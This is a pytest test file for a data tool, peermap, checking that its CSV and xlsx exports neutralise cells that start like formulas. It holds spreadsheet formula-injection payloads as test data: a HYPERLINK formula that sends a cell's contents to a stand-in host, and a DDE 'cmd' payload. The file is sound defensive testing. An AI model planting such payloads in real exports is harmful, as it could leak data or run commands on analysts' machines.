"""CSV files peermap writes open in a spreadsheet without running anything, and read back whole.

Analysts open rejected rows, exports and linked records in Excel or LibreOffice. Their
cells come from partners' records, so a cell that starts as a formula (``=``, ``+``,
``-``, ``@``, a tab or a carriage return) is written with an apostrophe before it, and
peermap's own reader takes the apostrophe off again.
"""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

import peermap
from peermap.cli import main
from peermap.merging import merge
from test_merge_links import LINKS, _pair

#: What a spreadsheet runs: a first character that starts a formula, not a plain number.
_RUNS = re.compile(r"^[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2,"open")'
TRICKY = [
    HYPERLINK,
    "=cmd|' /C calc'!A0",
    "@ 1+1",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "- closed -",
    "'=already marked",
    "''-1",
    "'",
    "it's a café",
]


def _cells_a_spreadsheet_runs(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [
            cell
            for row in csv.reader(handle)
            for cell in row
            if _RUNS.match(cell) and not _NUMBER.match(cell)
        ]


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("cells") / "exports"
    assert main(["demo", "--people", "150", "--seed", "4", "--out", str(folder), "--no-views"]) == 0
    return folder


def _copy_of(exports: Path, tmp_path: Path, table: str) -> tuple[Path, pd.DataFrame]:
    """A copy of the demo's files to edit, and one table of it as text cells."""
    folder = tmp_path / "exports"
    shutil.copytree(exports, folder)
    return folder, pd.read_csv(folder / f"{table}.csv", dtype=str, keep_default_na=False)


def test_an_export_holds_no_formula_and_reads_back_every_label_as_it_was(
    exports: Path, tmp_path: Path
) -> None:
    folder, places = _copy_of(exports, tmp_path, "places")
    places.loc[places.index[: len(TRICKY)], "label"] = TRICKY
    places.to_csv(folder / "places.csv", index=False)  # as a partner's export holds them
    first = peermap.read_dataset(folder)
    written = peermap.exchange.to_csv(first, tmp_path / "out")
    for path in written.values():
        assert _cells_a_spreadsheet_runs(path) == [], path.name
    assert "'=HYPERLINK(" in written["places"].read_text(encoding="utf-8")  # marked, kept
    back = peermap.read_dataset(tmp_path / "out")
    for name in ("people", "places", "ties", "sightings"):
        pd.testing.assert_frame_equal(back.table(name), first.table(name), check_like=True)
    labels = back.places.set_index("place_id")["label"]
    for place_id, label in zip(places["place_id"][: len(TRICKY)], TRICKY, strict=True):
        # A partner's own mark ("'=already marked") is read as the mark it is.
        sent = label[1:] if re.match(r"^'+[=+\-@]", label) else label
        assert labels[place_id].strip() == sent.strip()


def test_rejected_rows_are_written_so_a_spreadsheet_runs_none_of_their_cells(
    exports: Path, tmp_path: Path
) -> None:
    folder, people = _copy_of(exports, tmp_path, "people")
    people.loc[0, "age"] = HYPERLINK  # not an age: the row is set aside with its cells
    people.loc[1, "sex"] = "=1+1"
    people.to_csv(folder / "people.csv", index=False)
    rejected = tmp_path / "rejected"
    assert main(["validate", str(folder), "--rejected", str(rejected)]) == 2
    path = rejected / "people.csv"
    assert _cells_a_spreadsheet_runs(path) == []
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert {"'" + HYPERLINK, "'=1+1"} <= set(back["age"]) | set(back["sex"])


def test_a_partners_file_marked_by_a_spreadsheet_safe_exporter_reads_as_meant(
    exports: Path, tmp_path: Path
) -> None:
    places = pd.read_csv(exports / "places.csv", dtype=str, keep_default_na=False)
    # West of Greenwich: longitudes are negative, as in most of England.
    places = places.drop(columns=["easting", "northing"]).assign(
        lon=[f"-{0.05 + i / 1000:.4f}" for i in range(len(places))],
        lat=[f"{51.45 + i / 1000:.4f}" for i in range(len(places))],
    )
    plain, marked = tmp_path / "plain", tmp_path / "marked"
    for folder in (plain, marked):
        shutil.copytree(exports, folder)
    places.to_csv(plain / "places.csv", index=False)
    # Some exporters mark every cell starting with a minus sign, numbers included.
    for column in places.columns:
        places[column] = places[column].map(lambda v: "'" + v if v and v[0] in "-=+@" else v)
    assert places["lon"].str.startswith("'-").all()
    places.to_csv(marked / "places.csv", index=False)
    read = peermap.read_dataset(marked)
    assert read.report.ok
    expected = peermap.read_dataset(plain).places
    assert (read.places["lon"] < 0).all()
    pd.testing.assert_frame_equal(read.places, expected)


def test_links_with_an_id_written_decomposed_merge_with_the_composed_record(
    tmp_path: Path,
) -> None:
    # A partner's system writes "é" as "e" and a combining accent; the datasets keep ids
    # composed (NFC): the link still names the record.
    north, south = _pair()
    composed = {"n-1": "n-\u00e91"}
    frames = {name: north.table(name).replace(composed) for name in ("people", "ties", "sightings")}
    north = peermap.merging.with_provenance(
        peermap.read_dataset({**frames, "places": north.table("places")}), "X09000001"
    )
    path = tmp_path / "links.csv"
    LINKS.assign(id_a=["n-e\u03011", "n-2"]).to_csv(path, index=False)
    merged = merge([north, south], links=path)
    assert len(merged.people) == 3  # n-é1 and s-7 are one young person


def test_links_marked_for_a_spreadsheet_merge_as_the_links_they_are(tmp_path: Path) -> None:
    north, south = _pair()
    path = tmp_path / "links.csv"
    # A links file as 'peermap link' writes it when a cell starts like a formula: the
    # match flag "+1" (a spreadsheet's way of writing true) is marked.
    LINKS.assign(id_a=["n-1", "n-2"], match=["'=TRUE()", "no"]).to_csv(path, index=False)
    with pytest.raises(peermap.exceptions.ValidationError, match="=TRUE"):
        merge([north, south], links=path)
    LINKS.assign(id_b=["'-s-7", "s-8"]).to_csv(path, index=False)
    with pytest.raises(peermap.exceptions.ValidationError) as caught:
        merge([north, south], links=path)
    assert "column id_b" in str(caught.value) and "'-s-7" not in str(caught.value)


def test_pseudonymised_records_keep_their_other_cells_and_run_none(tmp_path: Path) -> None:
    key = tmp_path / "k"
    assert main(["key", str(key)]) == 0
    src = tmp_path / "in.csv"
    pd.DataFrame(
        {"local_id": ["CH-10", "CH-11"], "note": [HYPERLINK, "-2+3"], "lon": ["-0.12", "-1.5"]}
    ).to_csv(src, index=False)
    out = tmp_path / "out.csv"
    argv = ["pseudonymise", str(src), str(out), "--columns", "local_id", "--key-file", str(key)]
    assert main(argv) == 0
    assert _cells_a_spreadsheet_runs(out) == []
    written = pd.read_csv(out, dtype=str)
    assert written["note"].tolist() == ["'" + HYPERLINK, "'-2+3"]
    assert written["lon"].tolist() == ["-0.12", "-1.5"]  # numbers stay numbers


def test_a_template_lists_an_authority_named_like_a_formula_as_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from peermap.boundaries import demo_region_file

    region = tmp_path / "region.geojson"
    region.write_text(
        demo_region_file()
        .read_text(encoding="utf-8")
        .replace("Northmere", HYPERLINK.replace('"', "'")),
        encoding="utf-8",
    )
    path = tmp_path / "collection.xlsx"
    assert main(["template", str(path), "--boundaries", str(region)]) == 0
    cells = [c for c in load_workbook(path)["authority_list"]["A"] if str(c.value).startswith("=")]
    assert len(cells) == 1 and cells[0].data_type == "s"  # text, not a formula
